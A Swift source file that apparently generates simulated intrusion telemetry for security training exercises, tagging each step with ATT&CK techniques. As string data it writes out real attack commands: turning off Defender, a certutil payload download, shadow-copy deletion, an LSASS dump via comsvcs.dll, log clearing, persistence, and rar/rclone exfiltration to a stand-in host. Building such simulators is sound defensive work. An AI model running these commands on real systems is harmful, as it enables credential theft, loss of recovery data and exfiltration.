import Vocabulary

/// What the intruder does on a host.
extension ExerciseIntrusion {
    mutating func act(on foothold: Foothold) {
        let place = foothold.place
        let name = stage.host(place).name
        guard let process = foothold.process else {
            begin("look around \(name)", ["T1082"])
            stage.linux[place].sudo(
                random.pick(["deploy", "root"]), "/usr/bin/id", id: random.number(900...32_000), at: after(20...600))
            return
        }
        lookAround(place, name, process)
        if random.chance(loud) { beLoud(place, name, process) }
        if random.chance(50) { callHome(place, name, process) }
        if random.chance(35) { persist(place, name, process) }
        if stolen.count < 2 || random.chance(45) { stealCredentials(place, name, process) }
        if random.chance(cleared) {
            begin("clearing of the log on \(name)", ["T1070.001"])
            let time = after(60...3_000)
            stage.windows[place].clearSecurityLog(by: process.session, at: time)
            clearings[place] = time.advanced(byMilliseconds: stage.windows[place].clockAheadMilliseconds)
        }
    }

    private mutating func lookAround(_ place: Int, _ name: String, _ process: Process) {
        begin("look around \(name)", ["T1082", "T1033", "T1018"])
        let commands = [
            ("whoami.exe", "whoami /all"), ("ipconfig.exe", "ipconfig /all"), ("systeminfo.exe", "systeminfo"),
            ("net.exe", "net view"), ("nltest.exe", "nltest /dclist:\(stage.site.domain.name)"),
            ("tasklist.exe", "tasklist /v"), ("quser.exe", "quser"),
        ]
        for (image, command) in random.some(commands, 35).prefix(4) {
            // Typed into a shell, or handed to one by a tool.
            let path = Tool.system(image)
            let line =
                random.chance(50)
                ? command : "\(Tool.shell) /c \(command) > C:\\Windows\\Temp\\\(random.letters(6)).tmp 2>&1"
            stage.windows[place].start(line == command ? path : Tool.shell, line, by: process, at: after(4...120))
        }
    }

    private mutating func beLoud(_ place: Int, _ name: String, _ process: Process) {
        switch random.number(0...4) {
        case 0:
            begin("script on \(name)", ["T1059.001", "T1105"])
            _ = loadScript(on: place, by: process)
        case 1:
            begin("protection off on \(name)", ["T1562.001"])
            stage.windows[place].start(
                Tool.powerShell, "powershell.exe -c Set-MpPreference -DisableRealtimeMonitoring $true", by: process,
                at: after(10...200))
        case 2:
            begin("download on \(name)", ["T1105"])
            stage.windows[place].start(
                Tool.system("certutil.exe"),
                "certutil.exe -urlcache -split -f http://\(control.address)/\(random.letters(5)).txt C:\\Users\\Public\\u.exe",
                by: process, at: after(10...200))
        case 3:
            begin("pipe on \(name)", ["T1055"])
            stage.windows[place].createPipe("\\postex_\(random.letters(4))", by: process, at: after(10...200))
        default:
            begin("recovery off on \(name)", ["T1490"])
            stage.windows[place].start(
                Tool.system("vssadmin.exe"), "vssadmin.exe delete shadows /all /quiet", by: process, at: after(10...200)
            )
        }
    }

    private mutating func callHome(_ place: Int, _ name: String, _ process: Process) {
        begin("control of \(name)", ["T1071.001"])
        let time = now
        for _ in 0..<random.number(2...5) {
            stage.windows[place].resolve(control.name, to: control.address, by: process, at: after(200...1_500))
            stage.windows[place].connect(
                process, from: stage.windows[place].freshPort(), to: control.address, name: control.name, port: 443,
                at: now.advanced(byMilliseconds: 60))
        }
        now = time
        truth.commandAndControl = [control.name, control.address]
    }

    private mutating func persist(_ place: Int, _ name: String, _ process: Process) {
        if random.chance(50) {
            begin("autostart on \(name)", ["T1547.001"])
            stage.windows[place].setRegistry(
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\\(random.letters(6))", to: implant,
                by: process, at: after(20...200))
        } else {
            begin("task on \(name)", ["T1053.005"])
            stage.windows[place].createTask(
                "\\" + random.letters(7), command: implant, by: process.session, at: after(20...200))
        }
    }

    private mutating func stealCredentials(_ place: Int, _ name: String, _ process: Process) {
        begin("credentials on \(name)", ["T1003.001"])
        let target = stage.windows[place].securityAuthority
        if random.chance(loud) {
            let dumper = stage.windows[place].start(
                Tool.system("rundll32.exe"),
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump \(target.id) C:\\ProgramData\\\(random.letters(5)).bin full",
                by: process, at: after(60...600))
            stage.windows[place].open(
                target, by: dumper, access: 0x1F_FFFF, trace: Tool.dumpTrace, at: now.advanced(byMilliseconds: 160))
        } else {
            stage.windows[place].open(
                target, by: process, access: 0x1000, trace: Tool.dumpTrace, at: after(60...600))
        }
        let site = stage.site
        let choices = site.administrators.map(\.account) + [site.helpdesk.account, site.deployment, site.backup]
        let account = random.pick(choices)
        if !stolen.contains(account) { stolen.append(account) }
    }

    mutating func takeData(_ foothold: Foothold) {
        guard let process = foothold.process else { return }
        begin("taking of data from \(stage.host(foothold.place).name)", ["T1560.001", "T1567.002"])
        let place = foothold.place
        let packer = stage.windows[place].start(
            "C:\\ProgramData\\rar.exe", "rar.exe a -hp\(random.letters(8)) -v500m -r C:\\ProgramData\\o.rar D:\\Shares",
            by: process, at: after(200...2_000))
        stage.windows[place].createFile("C:\\ProgramData\\o.part1.rar", by: packer, at: after(60...300))
        let copier = stage.windows[place].start(
            "C:\\ProgramData\\rclone.exe", "rclone.exe copy C:\\ProgramData\\o.part1.rar store:\(random.letters(4))",
            by: process, at: after(60...600))
        stage.windows[place].connect(
            copier, from: stage.windows[place].freshPort(), to: "198.51.100.9", name: "store.example", port: 443,
            at: after(1...4))
        truth.exfiltration = ["store.example", "198.51.100.9"]
    }
}
